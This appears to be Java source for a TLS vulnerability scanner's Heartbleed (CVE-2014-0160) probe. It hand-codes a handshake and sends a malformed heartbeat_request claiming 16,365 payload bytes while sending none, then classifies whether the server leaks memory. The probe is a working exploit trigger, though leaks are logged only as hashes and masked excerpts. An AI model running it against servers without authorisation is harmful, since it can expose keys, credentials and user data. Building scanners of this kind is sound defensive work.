package dev.vetbench.tls;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * Sends a malformed heartbeat (CVE-2014-0160) before the handshake completes, speaking TLS by hand: a ClientHello
 * offering heartbeats, the server's flight up to ServerHelloDone, then an unencrypted heartbeat_request whose
 * payload_length claims {@link #CLAIMED_PAYLOAD_LENGTH} bytes while none are sent. A vulnerable OpenSSL (1.0.1 to
 * 1.0.1f) copies that many bytes of its memory into the reply; a correct server discards the message (RFC 6520
 * section 4), alerts or closes.
 */
public final class HeartbeatProbe {

    /**
     * The payload length the request claims. Chosen so that a vulnerable reply (3 + claimed + 16 padding) is exactly
     * 2^14 bytes, the largest plaintext record a conforming client (and BouncyCastle, after the handshake) accepts.
     */
    public static final int CLAIMED_PAYLOAD_LENGTH = (1 << 14) - 3 - 16;
    /** The payload bytes actually sent. */
    public static final int SENT_PAYLOAD_LENGTH = 0;

    private static final int SERVER_HELLO = 2;
    private static final int SERVER_HELLO_DONE = 14;
    private static final int HELLO_REQUEST = 0;
    /** Enough for any real server's first flight, certificate chain included. */
    private static final int MAX_HANDSHAKE_BYTES = 256 * 1024;
    private static final Logger LOG = LoggerFactory.getLogger(HeartbeatProbe.class);

    private final Duration replyWait;
    private final boolean maskedExcerpt;

    /**
     * @param replyWait how long to wait for a reaction to the heartbeat before concluding the server ignored it
     * @param maskedExcerpt whether a leak keeps a masked excerpt (shape only) besides its length and SHA-256
     */
    public HeartbeatProbe(Duration replyWait, boolean maskedExcerpt) {
        this.replyWait = replyWait;
        this.maskedExcerpt = maskedExcerpt;
    }

    /** The heartbeat_request message: type 1, the claimed length, no payload, no padding. */
    public static byte[] malformedRequest() {
        return new byte[] {1, (byte) (CLAIMED_PAYLOAD_LENGTH >> 8), (byte) CLAIMED_PAYLOAD_LENGTH};
    }

    /** Probes once, offering {@code version} as the highest version. */
    public HeartbeatProbeResult beforeHandshakeCompletes(TlsEndpoint endpoint, TlsVersion version,
            ProbeLimits limits) throws ProbeException {
        Instant start = Instant.now();
        try (BoundedConnection connection = BoundedConnection.open(endpoint, limits)) {
            Duration connectTime = Duration.between(start, Instant.now());
            try {
                return exchange(connection, endpoint, version, connectTime);
            } catch (IOException e) {
                throw connection.explain(e, "during the " + version.label() + " handshake");
            }
        }
    }

    private HeartbeatProbeResult exchange(BoundedConnection connection, TlsEndpoint endpoint, TlsVersion version,
            Duration connectTime) throws IOException {
        List<String> transcript = new ArrayList<>();
        Instant helloSent = Instant.now();
        byte[] hello = ClientHelloEncoder.record(version, endpoint.host());
        connection.output().write(hello);
        connection.output().flush();
        transcript.add("sent ClientHello " + version.label() + " (" + hello.length + " bytes, "
            + CipherSuites.legacy().size() + " cipher suites, heartbeat extension peer_allowed_to_send)");

        RecordReader reader = new RecordReader(connection.input());
        FirstFlight flight = readFirstFlight(reader, connection, transcript);
        Duration handshakeTime = Duration.between(helloSent, Instant.now());
        if (flight.hello() == null) {
            return refused(version, flight.refusal(), connectTime, handshakeTime, transcript);
        }

        ServerHello serverHello = flight.hello();
        byte[] request = malformedRequest();
        connection.output().write(TlsRecord.encode(TlsRecord.HEARTBEAT, serverHello.version(), request));
        connection.output().flush();
        transcript.add("sent heartbeat_request, unencrypted, claiming " + CLAIMED_PAYLOAD_LENGTH
            + " payload bytes, sending " + SENT_PAYLOAD_LENGTH);
        LOG.debug("Heartbeat sent to {} before the handshake completed", endpoint);

        HeartbeatReplyReader.Reaction reaction = HeartbeatReplyReader.await(reader::next, connection, replyWait,
            SENT_PAYLOAD_LENGTH, maskedExcerpt);
        transcript.add(describe(reaction));
        return new HeartbeatProbeResult(HeartbeatProbeResult.Phase.BEFORE_HANDSHAKE_COMPLETES, version,
            serverHello.version(), serverHello.cipherSuite(), serverHello.heartbeatNegotiated(), reaction.outcome(),
            reaction.alert(), request.length, CLAIMED_PAYLOAD_LENGTH, reaction.bytesReturned(), reaction.leak(),
            connectTime, handshakeTime, reaction.replyTime(), transcript);
    }

    private static HeartbeatProbeResult refused(TlsVersion version, String refusal, Duration connectTime,
            Duration handshakeTime, List<String> transcript) {
        transcript.add("server refused the handshake: " + refusal);
        String alert = refusal.startsWith("alert ") ? refusal.substring(6) : null;
        return new HeartbeatProbeResult(HeartbeatProbeResult.Phase.BEFORE_HANDSHAKE_COMPLETES, version, -1, -1,
            false, HeartbeatProbeResult.Outcome.HANDSHAKE_REFUSED, alert, 0, CLAIMED_PAYLOAD_LENGTH, 0, null,
            connectTime, handshakeTime, Duration.ZERO, transcript);
    }

    static String describe(HeartbeatReplyReader.Reaction reaction) {
        return switch (reaction.outcome()) {
            case LEAKED -> "server returned a " + reaction.bytesReturned() + "-byte heartbeat reply carrying "
                + reaction.leak().length() + " bytes that were never sent (SHA-256 " + reaction.leak().sha256() + ")";
            case ANSWERED_WITHIN_BOUNDS -> "server returned a " + reaction.bytesReturned()
                + "-byte heartbeat reply, no more than was sent";
            case ALERT -> "server answered with alert " + reaction.alert();
            case CLOSED -> "server closed the connection";
            case IGNORED -> "no reply within " + reaction.replyTime().toMillis() + " ms: the server ignored it";
            case HANDSHAKE_REFUSED -> "server refused the handshake";
        };
    }

    /** The server's first flight: its ServerHello, or why there was none. */
    private record FirstFlight(ServerHello hello, String refusal) {
    }

    private static FirstFlight readFirstFlight(RecordReader reader, BoundedConnection connection,
            List<String> transcript) throws IOException {
        HandshakeMessages messages = new HandshakeMessages();
        ServerHello hello = null;
        while (true) {
            TlsRecord record;
            try {
                record = reader.next();
            } catch (IOException e) {
                ProbeException explained = connection.explain(e, "while reading the server's hello");
                if (explained.kind() == ProbeException.Kind.CONNECTION_RESET && hello == null) {
                    return new FirstFlight(null, "connection reset");
                }
                throw explained;
            }
            if (record == null) {
                if (hello == null) {
                    return new FirstFlight(null, "connection closed");
                }
                throw new ProbeException(ProbeException.Kind.CONNECTION_RESET,
                    "The server closed the connection before ServerHelloDone.");
            }
            if (record.contentType() == TlsRecord.ALERT) {
                return new FirstFlight(null, "alert " + HeartbeatReplyReader.alertOf(record));
            }
            if (record.contentType() != TlsRecord.HANDSHAKE) {
                throw new ProbeException(ProbeException.Kind.PROTOCOL_ERROR, "The server sent a record of type "
                    + record.contentType() + " before ServerHelloDone.");
            }
            messages.add(record.fragment());
            for (byte[] message = messages.next(); message != null; message = messages.next()) {
                hello = onMessage(message, hello, transcript);
                if ((message[0] & 0xff) == SERVER_HELLO_DONE) {
                    return new FirstFlight(hello, null);
                }
            }
        }
    }

    private static ServerHello onMessage(byte[] message, ServerHello hello, List<String> transcript)
            throws ProbeException {
        int type = message[0] & 0xff;
        if (type == HELLO_REQUEST) {
            return hello;
        }
        if (hello == null && type != SERVER_HELLO) {
            throw new ProbeException(ProbeException.Kind.PROTOCOL_ERROR, "The server's first handshake message "
                + "was of type " + type + ", not ServerHello.");
        }
        if (type == SERVER_HELLO) {
            if (hello != null) {
                throw new ProbeException(ProbeException.Kind.PROTOCOL_ERROR, "The server sent two ServerHellos.");
            }
            ServerHello parsed = ServerHello.parse(java.util.Arrays.copyOfRange(message, 4, message.length));
            transcript.add("received ServerHello " + TlsVersion.describe(parsed.version()) + ", "
                + CipherSuites.describe(parsed.cipherSuite()) + ", heartbeat "
                + (parsed.heartbeatNegotiated() ? "negotiated (mode " + parsed.heartbeatMode() + ")"
                    : "not negotiated"));
            return parsed;
        }
        transcript.add("received handshake message type " + type + " (" + (message.length - 4) + " bytes)");
        return hello;
    }

    /** Reassembles handshake messages that span records (RFC 5246 section 6.2.1), within a byte budget. */
    private static final class HandshakeMessages {
        private final ByteArrayOutputStream pending = new ByteArrayOutputStream();
        private int total;

        void add(byte[] fragment) throws ProbeException {
            total += fragment.length;
            if (total > MAX_HANDSHAKE_BYTES) {
                throw new ProbeException(ProbeException.Kind.PROTOCOL_ERROR, "The server's handshake exceeded "
                    + MAX_HANDSHAKE_BYTES + " bytes before ServerHelloDone.");
            }
            pending.writeBytes(fragment);
        }

        byte[] next() {
            byte[] buffer = pending.toByteArray();
            if (buffer.length < 4) {
                return null;
            }
            int length = ((buffer[1] & 0xff) << 16) | ((buffer[2] & 0xff) << 8) | (buffer[3] & 0xff);
            if (buffer.length < 4 + length) {
                return null;
            }
            pending.reset();
            pending.write(buffer, 4 + length, buffer.length - 4 - length);
            return java.util.Arrays.copyOf(buffer, 4 + length);
        }
    }
}
